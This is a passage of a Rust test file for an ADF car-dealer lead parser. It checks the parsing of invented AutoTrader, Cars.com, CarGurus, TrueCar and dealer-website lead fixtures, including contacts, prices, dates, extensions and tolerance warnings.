//! Reading ADF leads end to end: documents as providers mail them in, leads, warnings and
//! refusals out. The samples under fixtures/adf/ are invented (names, addresses, numbers),
//! shaped like what AutoTrader, Cars.com, CarGurus, TrueCar and dealer website forms send.

use std::collections::BTreeSet;

use rylie_domain::adf::{
    self, AdfError, AmountLimit, AmountType, BalanceType, DistanceUnit, Lead, LeadStatus, MAX_DEPTH,
    MAX_DOCUMENT_BYTES, MAX_EXTENSIONS, MAX_WARNINGS, NamePart, NameType, OdometerStatus, PhoneTime, PhoneType,
    PriceDelta, PriceRelativeTo, PriceType, VehicleInterest, VehicleStatus,
};
use serde_json::Value;

const KITCHEN_SINK: &str = include_str!("fixtures/adf/kitchen_sink.xml");
const AUTOTRADER: &str = include_str!("fixtures/adf/autotrader.xml");
const AUTOTRADER_RESEND: &str = include_str!("fixtures/adf/autotrader_resend.xml");
const CARS_COM: &str = include_str!("fixtures/adf/cars_com.xml");
const CARGURUS: &str = include_str!("fixtures/adf/cargurus.xml");
const TRUECAR: &str = include_str!("fixtures/adf/truecar.xml");
const DEALER_WEBSITE: &str = include_str!("fixtures/adf/dealer_website.xml");
const MULTIPLE_PROSPECTS: &str = include_str!("fixtures/adf/multiple_prospects.xml");
const TOLERANT_ATTRIBUTES: &str = include_str!("fixtures/adf/tolerant_attributes.xml");
const EXTENSIONS: &str = include_str!("fixtures/adf/extensions.xml");
const CDATA_ENTITIES: &str = include_str!("fixtures/adf/cdata_entities.xml");
const MISSING_OPTIONAL: &str = include_str!("fixtures/adf/missing_optional.xml");
const MALFORMED_PI: &str = include_str!("fixtures/adf/malformed_pi.xml");
const NON_ASCII: &str = include_str!("fixtures/adf/non_ascii.xml");
const XXE: &str = include_str!("fixtures/adf/xxe.xml");
const BILLION_LAUGHS: &str = include_str!("fixtures/adf/billion_laughs.xml");
const DOCTYPE_EXTERNAL: &str = include_str!("fixtures/adf/doctype_external.xml");
const TRUNCATED: &str = include_str!("fixtures/adf/truncated.xml");
const CONTACT_VALUES: &str = include_str!("fixtures/adf/contact_values.xml");

const ALL_READABLE: [(&str, &str); 17] = [
    ("kitchen_sink", KITCHEN_SINK),
    ("autotrader", AUTOTRADER),
    ("autotrader_resend", AUTOTRADER_RESEND),
    ("cars_com", CARS_COM),
    ("cargurus", CARGURUS),
    ("truecar", TRUECAR),
    ("dealer_website", DEALER_WEBSITE),
    ("multiple_prospects", MULTIPLE_PROSPECTS),
    ("tolerant_attributes", TOLERANT_ATTRIBUTES),
    ("extensions", EXTENSIONS),
    ("cdata_entities", CDATA_ENTITIES),
    ("missing_optional", MISSING_OPTIONAL),
    ("malformed_pi", MALFORMED_PI),
    ("non_ascii", NON_ASCII),
    ("doctype_external", DOCTYPE_EXTERNAL),
    ("truncated", TRUNCATED),
    ("contact_values", CONTACT_VALUES),
];

fn leads(xml: &str) -> Vec<Lead> {
    adf::parse(xml).unwrap_or_else(|error| panic!("a readable document, got: {error}"))
}

fn one(xml: &str) -> Lead {
    let mut leads = leads(xml);
    assert_eq!(leads.len(), 1, "one prospect");
    leads.remove(0)
}

fn error(xml: &str) -> AdfError {
    adf::parse(xml).expect_err("an unreadable document")
}

fn has_warning(lead: &Lead, fragment: &str) -> bool {
    lead.warnings.iter().any(|warning| warning.contains(fragment))
}

fn keys(value: &Value) -> BTreeSet<&str> {
    value
        .as_object()
        .unwrap_or_else(|| panic!("an object, got {value}"))
        .keys()
        .map(String::as_str)
        .collect()
}

fn set<'k>(names: &[&'k str]) -> BTreeSet<&'k str> {
    names.iter().copied().collect()
}

/// A minimal lead with `requestdate` as its request date.
fn with_request_date(date: &str) -> String {
    MISSING_OPTIONAL.replace("2026-03-14T09:30:00Z", date)
}

/// A minimal lead whose first vehicle has `inner` in place of its model.
fn with_vehicle_markup(inner: &str) -> String {
    MISSING_OPTIONAL.replace("<model>Telluride</model>", &format!("<model>Telluride</model>{inner}"))
}

#[test]
fn the_kitchen_sink_reads_every_element_and_attribute_of_the_dtd() {
    let lead = one(KITCHEN_SINK);
    assert!(lead.warnings.is_empty(), "{:?}", lead.warnings);
    assert!(lead.extensions.is_empty(), "{:?}", lead.extensions);
    assert_eq!(lead.status, LeadStatus::Resend);
    assert_eq!(lead.ids.len(), 2);
    assert_eq!(lead.ids[0].value, "DS-2026-000481");
    assert_eq!(lead.ids[0].source.as_deref(), Some("DealerSocket"));
    assert_eq!(lead.ids[0].sequence.as_deref(), Some("1"));
    assert_eq!(
        lead.request_date.map(|at| at.to_rfc3339()).as_deref(),
        Some("2026-03-14T09:30:00-05:00")
    );

    let [car, trade] = &lead.vehicles[..] else {
        panic!("two vehicles, got {}", lead.vehicles.len());
    };
    assert_eq!(car.interest, VehicleInterest::Buy);
    assert_eq!(car.status, VehicleStatus::Used);
    assert_eq!(car.ids[0].value, "INV-5521");
    assert_eq!(car.year, Some(2023));
    assert_eq!(car.make.as_deref(), Some("Toyota"));
    assert_eq!(car.model.as_deref(), Some("RAV4 Hybrid"));
    assert_eq!(car.vin.as_deref(), Some("2T3P1RFV4RW123456"));
    assert_eq!(car.stock.as_deref(), Some("T23-5521"));
    assert_eq!(car.trim.as_deref(), Some("XSE"));
    assert_eq!(car.doors, Some(4));
    assert_eq!(car.body_style.as_deref(), Some("SUV"));
    assert_eq!(car.transmission.as_deref(), Some("Automatic (CVT)"));
    let odometer = car.odometer.as_ref().expect("an odometer");
    assert_eq!(odometer.value, Some(18_204));
    assert_eq!(odometer.units, Some(DistanceUnit::Miles));
    assert_eq!(odometer.status, Some(OdometerStatus::Original));
    assert_eq!(car.condition.as_deref(), Some("excellent"));
    assert_eq!(car.color_combinations.len(), 2);
    assert_eq!(
        car.color_combinations[0].interior_color.as_deref(),
        Some("Black SofTex")
    );
    assert_eq!(car.color_combinations[0].exterior_color.as_deref(), Some("Blueprint"));
    assert_eq!(car.color_combinations[0].preference, Some(1));
    assert_eq!(car.color_combinations[1].preference, Some(2));
    let image = car.image_tag.as_ref().expect("an image");
    assert_eq!(
        image.url.as_deref(),
        Some("https://images.example.com/inv/T23-5521/1.jpg")
    );
    assert_eq!((image.width, image.height), (Some(640), Some(480)));
    assert_eq!(image.alt_text.as_deref(), Some("Front three-quarter view"));
    let price = car.price.as_ref().expect("a price");
    assert_eq!(price.amount, Some(34_995.0));
    assert_eq!(price.currency.as_deref(), Some("USD"));
    assert_eq!(price.kind, PriceType::Quote);
    assert_eq!(price.delta, Some(PriceDelta::Absolute));
    assert_eq!(price.relative_to, Some(PriceRelativeTo::Msrp));
    assert_eq!(price.source.as_deref(), Some("Dealer Internet Price"));
    assert_eq!(car.price_comments.as_deref(), Some("Includes $1,000 loyalty rebate."));
    assert_eq!(car.options.len(), 2);
    let option = &car.options[0];
    assert_eq!(option.name.as_deref(), Some("Weather Package"));
    assert_eq!(option.manufacturer_code.as_deref(), Some("WP"));
    assert_eq!(option.stock.as_deref(), Some("OPT-WP"));
    assert_eq!(option.weighting, Some(75));
    let option_price = option.price.as_ref().expect("an option price");
    assert_eq!((option_price.amount, option_price.kind), (Some(495.0), PriceType::Msrp));
    assert_eq!(car.options[1].weighting, Some(-20));
    let finance = car.finance.as_ref().expect("finance");
    assert_eq!(finance.method.as_deref(), Some("finance"));
    assert_eq!(finance.amounts.len(), 2);
    assert_eq!(finance.amounts[0].amount, Some(5_000.0));
    assert_eq!(finance.amounts[0].kind, AmountType::DownPayment);
    assert_eq!(finance.amounts[0].limit, AmountLimit::Minimum);
    assert_eq!(finance.amounts[0].currency.as_deref(), Some("USD"));
    assert_eq!(finance.amounts[1].kind, AmountType::Monthly);
    assert_eq!(finance.amounts[1].limit, AmountLimit::Maximum);
    let balance = finance.balance.as_ref().expect("a balance");
    assert_eq!((balance.amount, balance.kind), (Some(12_500.0), BalanceType::Residual));
    assert_eq!(car.comments.as_deref(), Some("Customer asked for the blue one first."));

    assert_eq!(trade.interest, VehicleInterest::TradeIn);
    let trade_odometer = trade.odometer.as_ref().expect("an odometer");
    assert_eq!(trade_odometer.value, Some(212_400));
    assert_eq!(trade_odometer.units, Some(DistanceUnit::Kilometers));
    assert_eq!(trade_odometer.status, Some(OdometerStatus::RolledOver));

    let customer = &lead.customer;
    let contact = &customer.contact;
    assert_eq!(contact.first_name(), Some("Avery"));
    assert_eq!(contact.middle_name(), Some("Quinn"));
    assert_eq!(contact.last_name(), Some("Castellano"));
    assert_eq!(contact.full_name().as_deref(), Some("Avery Q. Castellano"));
    assert_eq!(contact.names[0].part, NamePart::First);
    assert_eq!(contact.names[0].kind, NameType::Individual);
    assert_eq!(contact.emails.len(), 2);
    assert!(contact.emails[0].preferred_contact);
    assert!(!contact.emails[1].preferred_contact);
    let phones: Vec<_> = contact
        .phones
        .iter()
        .map(|phone| (phone.number.as_str(), phone.kind, phone.time, phone.preferred_contact))
        .collect();
    assert_eq!(
        phones,
        [
            ("+15125550147", PhoneType::Cellphone, PhoneTime::Evening, true),
            ("+15125550148", PhoneType::Voice, PhoneTime::Day, false),
            ("+15125550149", PhoneType::Fax, PhoneTime::NoPreference, false),
            ("+15125550150", PhoneType::Pager, PhoneTime::Morning, false),
        ]
    );
    let address = contact.address.as_ref().expect("an address");
    assert_eq!(address.kind, Some(adf::AddressType::Home));
    let street: Vec<_> = address.street.iter().map(|s| (s.line, s.value.as_str())).collect();
    assert_eq!(street, [(Some(1), "4821 Bluebonnet Trail"), (Some(2), "Unit B")]);
    assert_eq!(address.apartment.as_deref(), Some("12"));
    assert_eq!(address.city.as_deref(), Some("Austin"));
    assert_eq!(address.region_code.as_deref(), Some("TX"));
    assert_eq!(address.postal_code.as_deref(), Some("78745"));
    assert_eq!(address.country.as_deref(), Some("US"));
    assert_eq!(customer.ids[0].value, "CUST-77120");
    let timeframe = customer.timeframe.as_ref().expect("a timeframe");
    assert_eq!(timeframe.description.as_deref(), Some("Within two weeks"));
    assert_eq!(
        timeframe.earliest_date.map(|at| at.to_rfc3339()).as_deref(),
        Some("2026-03-16T00:00:00+00:00")
    );
    assert_eq!(
        timeframe.latest_date.map(|at| at.to_rfc3339()).as_deref(),
        Some("2026-03-28T18:00:00-05:00")
    );
    assert!(
        customer
            .comments
            .as_deref()
            .is_some_and(|c| c.starts_with("Prefers texts"))
    );

    let vendor = lead.vendor.as_ref().expect("a vendor");
    assert_eq!(vendor.ids[0].value, "TX-40521");
    assert_eq!(vendor.name.as_deref(), Some("Hill Country Toyota"));
    assert_eq!(vendor.url.as_deref(), Some("https://www.hillcountrytoyota.example.com"));
    let vendor_contact = vendor.contact.as_ref().expect("a vendor contact");
    assert_eq!(vendor_contact.names[0].kind, NameType::Business);
    assert_eq!(vendor_contact.phones[0].number, "+15125550100");
    assert_eq!(
        vendor_contact.address.as_ref().and_then(|a| a.kind),
        Some(adf::AddressType::Work)
    );

    let provider = lead.provider.as_ref().expect("a provider");
    assert_eq!(provider.ids[0].value, "LR-0042");
    assert_eq!(provider.name.as_deref(), Some("Example Lead Exchange"));
    assert_eq!(provider.service.as_deref(), Some("Used Vehicle Inquiry"));
    assert_eq!(provider.url.as_deref(), Some("https://leads.example.org"));
    assert_eq!(
        provider.email.as_ref().map(|e| e.address.as_str()),
        Some("adf@leads.example.org")
    );
    assert_eq!(provider.phone.as_ref().map(|p| p.number.as_str()), Some("+18005550199"));
    let provider_contact = provider.contact.as_ref().expect("a provider contact");
    assert_eq!(provider_contact.phones[0].time, PhoneTime::Afternoon);
    assert_eq!(
        provider_contact.address.as_ref().and_then(|a| a.kind),
        Some(adf::AddressType::Delivery)
    );

    assert_eq!(lead.adf_id().map(|id| id.value.as_str()), Some("DS-2026-000481"));
    assert_eq!(lead.provider_key(), Some("Example Lead Exchange"));
}

#[test]
fn the_whole_model_serialises_for_storage() {
    let lead = one(KITCHEN_SINK);
    let stored = serde_json::to_value(&lead).expect("serialises");
    assert_eq!(stored["status"], "resend");
    assert_eq!(stored["vehicles"][1]["interest"], "trade-in");
    assert_eq!(stored["vehicles"][0]["odometer"]["units"], "mi");
    assert_eq!(stored["vehicles"][0]["finance"]["amounts"][0]["kind"], "downpayment");
    assert_eq!(stored["customer"]["contact"]["phones"][0]["time"], "evening");
    assert_eq!(stored["request_date"], "2026-03-14T09:30:00-05:00");
}

#[test]
fn an_autotrader_lead_with_a_trade_in() {
    let lead = one(AUTOTRADER);
    assert!(lead.warnings.is_empty(), "{:?}", lead.warnings);
    assert_eq!(lead.vehicles.len(), 2);
    assert_eq!(lead.vehicles[1].interest, VehicleInterest::TradeIn);
    let wanted = lead.vehicle_of_interest().expect("a vehicle of interest");
    assert_eq!(wanted.model.as_deref(), Some("Accord"));
    assert_eq!(wanted.price.as_ref().and_then(|p| p.amount), Some(26_995.0));
    assert_eq!(wanted.price.as_ref().map(|p| p.kind), Some(PriceType::Asking));
    let trade_ins: Vec<_> = lead.trade_ins().collect();
    assert_eq!(trade_ins.len(), 1);
    assert_eq!(trade_ins[0].model.as_deref(), Some("Altima"));
    assert_eq!(trade_ins[0].condition.as_deref(), Some("good"));
    assert_eq!(lead.provider_key(), Some("AutoTrader.com"));
    assert_eq!(lead.adf_id().map(|id| id.value.as_str()), Some("AT-7731945"));
}

#[test]
fn a_cars_com_lead_with_only_a_full_name_and_an_extension_on_the_phone() {
    let lead = one(CARS_COM);
    let contact = &lead.customer.contact;
    assert_eq!(contact.full_name().as_deref(), Some("Priya Raman"));
    assert_eq!((contact.first_name(), contact.last_name()), (None, None));
    assert_eq!(contact.phones[0].number, "+13125550183");
    assert_eq!(contact.phones[0].raw, "(312) 555-0183 x22");
    let price = lead.vehicles[0].price.as_ref().expect("a price");
    assert_eq!((price.amount, price.kind), (Some(58_340.0), PriceType::Msrp));
    assert_eq!(lead.vehicles[0].trim.as_deref(), Some("XLT SuperCrew 5.5' Box 4WD"));
    // "2026-03-14 16:05:12" has no zone.
    assert_eq!(
        lead.request_date.map(|at| at.to_rfc3339()).as_deref(),
        Some("2026-03-14T16:05:12+00:00")
    );
    assert!(
        has_warning(&lead, "has no time zone; read as UTC"),
        "{:?}",
        lead.warnings
    );
    assert_eq!(lead.warnings.len(), 1, "{:?}", lead.warnings);
}

#[test]
fn a_cargurus_lead_keeps_its_namespaced_extensions() {
    let lead = one(CARGURUS);
    assert!(lead.warnings.is_empty(), "{:?}", lead.warnings);
    let vehicle = &lead.vehicles[0];
    assert_eq!(
        vehicle.odometer.as_ref().map(|o| (o.value, o.units)),
        Some((Some(41_230), Some(DistanceUnit::Miles)))
    );
    assert_eq!(lead.customer.contact.phones[0].number, "+19195550132");
    let paths: Vec<_> = lead.extensions.iter().map(|e| e.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "adf/prospect/vehicle/cg:dealRating",
            "adf/prospect/vehicle/cg:listingUrl",
            "adf/prospect/provider/cg:leadType"
        ]
    );
    assert_eq!(lead.extensions[0].text.as_deref(), Some("Good Deal"));
}

#[test]
fn a_truecar_lead_with_colour_choices_and_an_option() {
    let lead = one(TRUECAR);
    assert!(lead.warnings.is_empty(), "{:?}", lead.warnings);
    let vehicle = &lead.vehicles[0];
    assert_eq!(vehicle.color_combinations.len(), 2);
    assert_eq!(vehicle.color_combinations[1].interior_color, None);
    assert_eq!(
        vehicle.color_combinations[1].exterior_color.as_deref(),
        Some("Serenity White Pearl")
    );
    assert_eq!(vehicle.price.as_ref().map(|p| p.kind), Some(PriceType::Offer));
    assert_eq!(vehicle.options[0].price.as_ref().and_then(|p| p.amount), Some(1_350.0));
    assert_eq!(
        lead.customer
            .timeframe
            .as_ref()
            .and_then(|t| t.latest_date)
            .map(|d| d.to_rfc3339())
            .as_deref(),
        Some("2026-03-21T00:00:00+00:00")
    );
}

#[test]
fn element_and_attribute_names_in_any_case_from_a_dealer_website_form() {
    let lead = one(DEALER_WEBSITE);
    assert_eq!(lead.ids[0].value, "form-20260314-0087");
    assert_eq!(lead.ids[0].source.as_deref(), Some("Hill Country Toyota Website"));
    assert_eq!(lead.vehicles[0].interest, VehicleInterest::TestDrive);
    assert_eq!(lead.vehicles[0].model.as_deref(), Some("Camry"));
    assert_eq!(lead.customer.contact.emails[0].address, "jordan.ellispark@example.com");
    assert_eq!(lead.customer.contact.phones[0].number, "+15125550133");
    assert_eq!(
        lead.customer.comments.as_deref(),
        Some("Test drive request for Saturday 3/21 at 10am.\nPreferred contact: text message.")
    );
    assert_eq!(
        lead.request_date.map(|at| at.to_rfc3339()).as_deref(),
        Some("2026-03-14T16:05:00+00:00")
    );
    assert_eq!(lead.provider_key(), Some("Hill Country Toyota Website"));
    assert!(lead.vendor.is_none());

    let mixed = "<Adf><Prospect><RequestDate>2026-03-14</requestdate><Vehicle><Make>Kia</MAKE></vehicle>\
                 <Customer><Contact><Name>Ann Lee</NAME><Email>ann@example.com</email></contact></customer>\
                 </PROSPECT></ADF>";
    let lead = one(mixed);
    assert_eq!(lead.vehicles[0].make.as_deref(), Some("Kia"));
    assert_eq!(lead.customer.contact.full_name().as_deref(), Some("Ann Lee"));
}

#[test]
fn several_prospects_become_one_lead_each_in_order() {
    let leads = leads(MULTIPLE_PROSPECTS);
    let ids: Vec<_> = leads
        .iter()
        .filter_map(|lead| lead.adf_id())
        .map(|id| id.value.as_str())
        .collect();
    assert_eq!(ids, ["B-1001", "B-1002", "B-1003"]);
    assert_eq!(leads[1].vehicles[0].interest, VehicleInterest::Lease);
    assert_eq!(leads[1].customer.contact.full_name().as_deref(), Some("Tomás Herrera"));
    assert_eq!(leads[2].vehicles[1].interest, VehicleInterest::Sell);
    assert_eq!(leads[2].trade_ins().count(), 1);
    assert_eq!(
        leads[2].vehicle_of_interest().and_then(|v| v.model.as_deref()),
        Some("Crosstrek")
    );
    assert!(leads.iter().all(|lead| lead.warnings.is_empty()));
    let report = adf::report_all(&leads);
    assert_eq!(report.as_array().map(Vec::len), Some(3));
}

#[test]
fn enumerated_values_match_loosely_and_unknown_or_empty_ones_fall_back_to_the_default() {
    let lead = one(TOLERANT_ATTRIBUTES);
    assert_eq!(lead.status, LeadStatus::Resend);
    let read: Vec<_> = lead.vehicles.iter().map(|v| (v.interest, v.status)).collect();
    assert_eq!(
        read,
        [
            (VehicleInterest::TradeIn, VehicleStatus::Used),
            (VehicleInterest::TradeIn, VehicleStatus::New),
            (VehicleInterest::TestDrive, VehicleStatus::Used),
            (VehicleInterest::Buy, VehicleStatus::New),
        ]
    );
    assert!(has_warning(
        &lead,
        r#"<vehicle status="">: empty; read as the default, "new""#
    ));
    assert!(has_warning(
        &lead,
        r#"<vehicle interest="purchase">: not one of buy, lease, sell, trade-in, test-drive; read as the default, "buy""#
    ));
    assert!(has_warning(&lead, r#"<vehicle status="pre-owned">"#));
    let odometer = lead.vehicles[3].odometer.as_ref().expect("an odometer");
    assert_eq!(odometer.units, Some(DistanceUnit::Miles));
    assert_eq!(odometer.status, Some(OdometerStatus::Unknown));
    let price = lead.vehicles[3].price.as_ref().expect("a price");
    assert_eq!((price.kind, price.delta), (PriceType::Appraisal, None));
    assert!(has_warning(&lead, r#"<price delta="">: empty; ignored"#));

    let contact = &lead.customer.contact;
    assert_eq!(contact.first_name(), Some("Casey"));
    assert_eq!(contact.last_name(), Some("Nguyen"));
    assert!(contact.emails[0].preferred_contact);
    assert_eq!(contact.phones[0].kind, PhoneType::Cellphone);
    assert_eq!(contact.phones[0].time, PhoneTime::Evening);
    assert_eq!(contact.phones[1].kind, PhoneType::Voice);
    assert_eq!(contact.phones[1].time, PhoneTime::NoPreference);
    assert!(has_warning(
        &lead,
        r#"<phone type="Mobile">: not one of voice, fax, cellphone, pager"#
    ));
    assert!(has_warning(&lead, r#"<phone time="Evenings">"#));
}

#[test]
fn misspelled_attribute_names_from_the_table_are_read_with_a_warning() {
    let lead = one(TOLERANT_ATTRIBUTES);
    for (wrong, right) in [
        ("intrest", "interest"),
        ("staus", "status"),
        ("interst", "interest"),
        ("stauts", "status"),
    ] {
        assert!(
            has_warning(
                &lead,
                &format!(r#"read the misspelled attribute "{wrong}" as "{right}""#)
            ),
            "{wrong}: {:?}",
            lead.warnings
        );
    }
    // Misspellings are not kept as extensions: they were understood.
    assert!(lead.extensions.is_empty(), "{:?}", lead.extensions);
}

#[test]
fn vendor_extensions_and_unknown_elements_are_kept_at_any_depth() {
    let lead = one(EXTENSIONS);
    assert!(lead.warnings.is_empty(), "{:?}", lead.warnings);
    let found: Vec<_> = lead
        .extensions
        .iter()
        .map(|e| (e.path.as_str(), e.text.as_deref(), e.attributes.len()))
        .collect();
    assert_eq!(
        found,
        [
            ("adf/prospect/dealer_code", Some("DLR-7781"), 0),
            ("adf/prospect/vehicle", None, 1),
            ("adf/prospect/vehicle/incentives", None, 0),
            ("adf/prospect/vehicle/incentives/incentive", Some("1,000"), 2),
            (
                "adf/prospect/vehicle/incentives/incentive",
                Some("1.9% for 60 months"),
                1
            ),
            ("adf/prospect/customer/contact/ext:leadScore", Some("87"), 1),
            // A DTD element in a place the DTD does not put it.
            ("adf/prospect/customer/make", Some("Honda"), 0),
            ("adf/prospect/provider/leadtype", Some("Chat"), 0),
            // Outside the prospect: copied into every lead of the document.
            ("adf/source", Some("LeadRouter"), 1),
        ]
    );
    assert_eq!(lead.extensions[1].attributes["dealerVehicleId"], "88123");
    assert_eq!(lead.extensions[3].attributes["expires"], "2026-03-31");
    // The known parts around them are read as usual.
    assert_eq!(lead.vehicles[0].model.as_deref(), Some("Equinox"));
    assert_eq!(lead.customer.contact.emails[0].address, "rowan.delacroix@example.com");
    assert_eq!(lead.provider_key(), Some("Dealer Website"));
}

#[test]
fn cdata_and_entities_decode_and_an_undefined_entity_is_kept_with_a_warning() {
    let lead = one(CDATA_ENTITIES);
    let vehicle = &lead.vehicles[0];
    assert_eq!(vehicle.model.as_deref(), Some("Range Rover Sport & Co"));
    assert_eq!(
        vehicle.price.as_ref().and_then(|p| p.source.as_deref()),
        Some("Smith & Sons \"Best\" Price")
    );
    assert_eq!(
        vehicle.comments.as_deref(),
        Some("Wants <b>bold</b> colours & a tow hitch")
    );
    let contact = &lead.customer.contact;
    assert_eq!(contact.first_name(), Some("Renée"));
    assert_eq!(contact.last_name(), Some("O'Brien-Café"));
    assert_eq!(
        lead.customer.comments.as_deref(),
        Some("Budget < $90k > $80k.\nCall&nbsp;after 5pm. AT&T customer.")
    );
    assert_eq!(lead.warnings, ["undefined entity &nbsp; in <comments> kept as written"]);
}

#[test]
fn missing_optional_sections_are_null_or_empty() {
    let lead = one(MISSING_OPTIONAL);
    assert!(lead.warnings.is_empty(), "{:?}", lead.warnings);
    assert!(lead.ids.is_empty() && lead.vendor.is_none() && lead.provider.is_none());
    assert_eq!(lead.adf_id(), None);
    assert_eq!(lead.provider_key(), None);
    let vehicle = &lead.vehicles[0];
    assert_eq!(
        (vehicle.interest, vehicle.status),
        (VehicleInterest::Buy, VehicleStatus::New)
    );
    let report = lead.report();
    for key in ["vendor", "provider"] {
        assert_eq!(report[key], Value::Null, "{key}");
    }
    assert_eq!(report["ids"], serde_json::json!([]));
    for key in [
        "address",
        "timeframe",
        "comments",
        "first_name",
        "last_name",
        "middle_name",
    ] {
        assert_eq!(report["customer"][key], Value::Null, "{key}");
    }
    assert_eq!(report["customer"]["phones"], serde_json::json!([]));
    for key in ["price", "odometer", "vin", "stock", "trim", "comments"] {
        assert_eq!(report["vehicles"][0][key], Value::Null, "{key}");
    }
    assert_eq!(report["vehicles"][0]["interest"], "buy");
    assert_eq!(report["vehicles"][0]["status"], "new");
}

#[test]
fn a_prospect_missing_what_the_dtd_requires_is_kept_with_warnings() {
    let lead = one("<adf><prospect><customer><contact><name>Bo Diaz</name></contact></customer></prospect></adf>");
    assert!(has_warning(&lead, "no <requestdate>"));
    assert!(has_warning(&lead, "no <vehicle>"));
    assert!(has_warning(&lead, "neither a valid <email> nor a <phone>"));
    let lead = one("<adf><prospect><requestdate>2026-03-14</requestdate><vehicle/></prospect></adf>");
    assert!(has_warning(&lead, "no <customer>"));
}

#[test]
fn malformed_processing_instructions_and_leading_junk_are_ignored_with_a_warning() {
    let lead = one(MALFORMED_PI);
    assert_eq!(lead.vehicles[0].make.as_deref(), Some("Volkswagen"));
    assert_eq!(lead.customer.contact.phones[0].number, "+12145550128");
    assert!(
        has_warning(&lead, "ignored a malformed processing instruction at line 3"),
        "{:?}",
        lead.warnings
    );
    assert!(
        has_warning(&lead, "bytes of text before the root element"),
        "{:?}",
        lead.warnings
    );
    assert_eq!(lead.warnings.len(), 2, "{:?}", lead.warnings);

    // A well-formed ADF PI, a BOM and whitespace say nothing.
    let clean = format!("\u{feff}\n  <?ADF VERSION \"1.0\"?>\n{MISSING_OPTIONAL}");
    assert!(one(&clean).warnings.is_empty());
}

#[test]
fn non_ascii_names_and_text_are_preserved() {
    let lead = one(NON_ASCII);
    assert!(lead.warnings.is_empty(), "{:?}", lead.warnings);
    let contact = &lead.customer.contact;
    assert_eq!(contact.first_name(), Some("José"));
    assert_eq!(contact.middle_name(), Some("Zoë"));
    assert_eq!(contact.last_name(), Some("Núñez-Łukasiewicz"));
    assert_eq!(contact.full_name().as_deref(), Some("José Zoë Núñez-Łukasiewicz"));
    assert_eq!(contact.phones[0].number, "+15145550123");
    assert_eq!(
        contact.address.as_ref().and_then(|a| a.city.as_deref()),
        Some("Montréal")
    );
    assert_eq!(lead.vehicles[0].make.as_deref(), Some("Citroën"));
    assert!(
        lead.customer
            .comments
            .as_deref()
            .is_some_and(|c| c.contains("日本語も話せます。") && c.ends_with('🚗'))
    );
    assert_eq!(lead.vendor.and_then(|v| v.name).as_deref(), Some("Auto Québec Ltée"));
}

#[test]
fn names_without_parts_are_full_names_and_parts_are_never_invented() {
    let contact = |names: &str| {
        let xml = MISSING_OPTIONAL.replace(r#"<name part="full">Sam Okafor</name>"#, names);
        one(&xml).customer.contact
    };
    let only_full = contact("<name>  Mary   Ann\n Smith </name>");
    assert_eq!(only_full.full_name().as_deref(), Some("Mary Ann Smith"));
    assert_eq!(
        (only_full.first_name(), only_full.middle_name(), only_full.last_name()),
        (None, None, None)
    );
    let only_parts = contact(r#"<name part="first">Mary</name><name part="surname">Smith</name>"#);
    assert_eq!(only_parts.full_name().as_deref(), Some("Mary Smith"));
    assert_eq!(only_parts.last_name(), Some("Smith"));
    let report =
        one(&MISSING_OPTIONAL.replace(r#"<name part="full">Sam Okafor</name>"#, "<name>Sam Okafor</name>")).report();
    assert_eq!(report["customer"]["full_name"], "Sam Okafor");
    assert_eq!(report["customer"]["first_name"], Value::Null);
}

#[test]
fn request_dates_in_every_format_providers_send() {
    for (written, expected, zone_warning) in [
        ("2026-03-14T09:30:00-05:00", "2026-03-14T09:30:00-05:00", false),
        ("2026-03-14T14:30:00Z", "2026-03-14T14:30:00+00:00", false),
        ("2026-03-14T09:30:00+05:00", "2026-03-14T09:30:00+05:00", false),
        ("2026-03-14T09:30:00-0500", "2026-03-14T09:30:00-05:00", false),
        ("2026-03-14T09:30:00", "2026-03-14T09:30:00+00:00", true),
        ("2026-03-14 09:30:00", "2026-03-14T09:30:00+00:00", true),
        ("2026-03-14", "2026-03-14T00:00:00+00:00", false),
        ("03/14/2026", "2026-03-14T00:00:00+00:00", false),
        ("03/14/2026 09:30", "2026-03-14T09:30:00+00:00", true),
        ("03/14/2026 9:30:15 PM", "2026-03-14T21:30:15+00:00", true),
        ("3/14/2026 9:30 AM", "2026-03-14T09:30:00+00:00", true),
        ("20260314T093000", "2026-03-14T09:30:00+00:00", true),
        ("20260314T093000Z", "2026-03-14T09:30:00+00:00", false),
        ("20260314", "2026-03-14T00:00:00+00:00", false),
    ] {
        let lead = one(&with_request_date(written));
        assert_eq!(
            lead.request_date.map(|at| at.to_rfc3339()).as_deref(),
            Some(expected),
            "{written}"
        );
        assert_eq!(
            has_warning(&lead, "has no time zone; read as UTC"),
            zone_warning,
            "{written}: {:?}",
            lead.warnings
        );
    }
}

#[test]
fn an_unreadable_date_is_null_with_a_warning_that_keeps_the_value() {
    let lead = one(&with_request_date("next Tuesday-ish"));
    assert_eq!(lead.request_date, None);
    assert!(
        has_warning(&lead, r#"<requestdate> "next Tuesday-ish" is not a date; left empty"#),
        "{:?}",
        lead.warnings
    );
    assert_eq!(lead.report()["request_date"], Value::Null);

    let timeframe = "<timeframe><description>soon</description><earliestdate>31/31/2026</earliestdate></timeframe>";
    let xml = MISSING_OPTIONAL.replace("</contact>", &format!("</contact>{timeframe}"));
    let lead = one(&xml);
    let timeframe = lead.customer.timeframe.as_ref().expect("a timeframe");
    assert_eq!(timeframe.earliest_date, None);
    assert!(has_warning(&lead, r#"<earliestdate> "31/31/2026" is not a date"#));
}

#[test]
fn prices_and_odometers_are_numbers() {
    for (price, expected) in [
        (
            r#"<price type="quote" currency="USD">23,995.00</price>"#,
            Some(23_995.0),
        ),
        ("<price>$23,995</price>", Some(23_995.0)),
        ("<price> 23995 </price>", Some(23_995.0)),
        (r#"<price type="call"></price>"#, None),
    ] {
        let lead = one(&with_vehicle_markup(price));
        assert_eq!(
            lead.vehicles[0].price.as_ref().and_then(|p| p.amount),
            expected,
            "{price}"
        );
        assert!(lead.warnings.is_empty(), "{price}: {:?}", lead.warnings);
    }
    let lead = one(&with_vehicle_markup("<price>Call for price!</price>"));
    assert_eq!(lead.vehicles[0].price.as_ref().map(|p| p.amount), Some(None));
    assert!(
        has_warning(&lead, r#"<price> "Call for price!" is not a number; left empty"#),
        "{:?}",
        lead.warnings
    );
    assert_eq!(lead.report()["vehicles"][0]["price"]["amount"], Value::Null);
    let quiet = one(&with_vehicle_markup(r#"<price type="call">Call for price</price>"#));
    assert!(quiet.warnings.is_empty(), "{:?}", quiet.warnings);

    let lead = one(&with_vehicle_markup(r#"<odometer units="km">12,345</odometer>"#));
    let report = lead.report();
    assert_eq!(
        report["vehicles"][0]["odometer"],
